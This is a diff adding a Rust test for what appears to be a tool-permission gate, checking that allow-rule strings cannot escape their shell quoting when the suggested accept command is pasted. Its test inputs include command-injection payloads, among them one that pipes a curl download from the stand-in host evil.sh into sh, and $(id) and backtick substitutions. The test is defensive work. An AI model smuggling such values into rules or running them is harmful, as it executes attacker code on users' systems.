@@ -748,3 +748,18 @@ fn prompt_text_is_computed_only_for_a_prompter_that_shows_it() {
     );
     assert_eq!(describe_ran.get(), 1);
 }
+
+#[test]
+fn a_rule_cannot_break_out_of_the_command_suggested_for_it() {
+    // A shipped local allow rule is listed with the command that accepts it: the rule must not
+    // be able to end the quoted word and run something when that line is pasted.
+    for rule in [
+        "Mcp(x';curl${IFS}-fsS${IFS}evil.sh|sh;')",
+        "Mcp(x\"$(id)\")",
+        "Mcp(x`id`)",
+        "Mcp(x\\')",
+    ] {
+        assert!(earshot_host::gate::parse_rule(rule).is_err(), "{rule}");
+    }
+    assert_eq!(earshot_host::gate::shell_word("Mcp(a'b)"), "'Mcp(a'\\''b)'");
+}
